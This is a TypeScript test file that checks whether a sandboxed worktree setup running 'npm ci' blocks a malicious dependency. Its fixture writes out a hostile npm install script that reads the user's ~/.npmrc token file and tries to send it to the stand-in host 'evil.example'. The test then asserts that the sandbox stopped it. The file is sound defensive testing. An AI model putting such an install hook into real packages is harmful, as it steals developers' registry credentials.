import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { expect, it, onTestFinished } from "vitest";
import { setUpRunner } from "../../src/app/set-up-runner.ts";
import { findPaths } from "../../src/config/paths.ts";
import { DEFAULT_SETTINGS } from "../../src/contract/settings-defaults.ts";
import { createWorktree } from "../../src/worktree/create-worktree.ts";
import { setUpWorktree } from "../../src/worktree/set-up-worktree.ts";
import { testRepository } from "../support/repository.ts";
import { describeSandboxed } from "../support/sandbox.ts";
import { temporaryFolder, writeFiles } from "../support/temp.ts";

/** A registry of this machine with one package, whose install script is hostile. */
async function registry() {
  const folder = temporaryFolder();
  const hostile = `const fs=require("fs"),h=require("http"),out={home:(()=>{try{return fs.readFileSync(process.env.HOME+"/.npmrc","utf8")}catch(e){return e.code}})()};
    h.get({host:"127.0.0.1",port:3128,path:"http://evil.example/?stolen"},r=>{out.status=r.statusCode;fs.writeFileSync("seen.json",JSON.stringify(out))})`;
  writeFiles(folder, { "package/package.json": JSON.stringify({ name: "tiny", version: "1.0.0", scripts: { install: "node install.js" } }), "package/install.js": hostile, "package/index.js": "module.exports = 42;" });
  const tarball = execFileSync("tar", ["cz", "-C", folder, "package"]);
  const asked: { url: string; authorization: string | undefined }[] = [];
  const server = createServer((message, response) => {
    asked.push({ url: message.url ?? "", authorization: message.headers.authorization });
    if (message.url === "/tiny/-/tiny-1.0.0.tgz") response.end(tarball);
    else response.writeHead(404).end("{}");
  });
  await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
  onTestFinished(() => void server.close());
  const url = `http://localhost:${(server.address() as AddressInfo).port}/`;
  const resolved = `${url}tiny/-/tiny-1.0.0.tgz`;
  const integrity = `sha512-${createHash("sha512").update(tarball).digest("base64")}`;
  const lock = { name: "p", version: "1.0.0", lockfileVersion: 3, requires: true, packages: { "": { name: "p", version: "1.0.0", dependencies: { tiny: "1.0.0" } }, "node_modules/tiny": { version: "1.0.0", resolved, integrity, hasInstallScript: true } } };
  return { url, asked, files: { "package.json": JSON.stringify({ name: "p", version: "1.0.0", dependencies: { tiny: "1.0.0" } }), "package-lock.json": JSON.stringify(lock), ".gitignore": "node_modules\n" } };
}

describeSandboxed("a set-up in the sandbox", () => {
  it("installs what the lockfile names from the user's registry, once for all worktrees, without the user's login and without another way out", async () => {
    const source = await registry();
    const box = testRepository(source.files);
    const repository = await box.open();
    const home = temporaryFolder();
    writeFiles(home, { ".npmrc": `registry=${source.url}\n//${new URL(source.url).host}/:_authToken=token-canary\n` });
    const env = { HOME: home, PATH: process.env.PATH };
    const warnings: string[] = [];
    const setUp = async (bead: string) => {
      const worktree = await createWorktree({ bead }, repository);
      const settings = { ...DEFAULT_SETTINGS, sandbox: { mode: "required" as const, hosts: ["open.example"] } };
      const runSandboxed = setUpRunner(worktree.path, { paths: findPaths(box.root, env), settings, env, warn: (message) => warnings.push(message) });
      return { ...(await setUpWorktree(worktree, { setup: "auto", copy: [], network: true }, { repository, runSandboxed })), path: worktree.path };
    };
    const first = await setUp("app-1");
    expect(first).toMatchObject({ status: "done", ran: ["npm ci --no-audit --no-fund"] });
    expect(JSON.parse(readFileSync(join(first.path, "node_modules/tiny/seen.json"), "utf8"))).toEqual({ home: "ENOENT", status: 403 });
    expect(warnings).toEqual(["the set-up tried to reach evil.example, which is not open; if it should: cru config set sandbox.hosts open.example,evil.example"]);
    expect(source.asked).toEqual([{ url: "/tiny/-/tiny-1.0.0.tgz", authorization: undefined }]);
    const second = await setUp("app-2");
    expect(existsSync(join(second.path, "node_modules/tiny/index.js"))).toBe(true);
    expect(source.asked).toHaveLength(1);
    expect(readdirSync(home).toSorted()).toEqual([".cache", ".npmrc"]);
  });
});
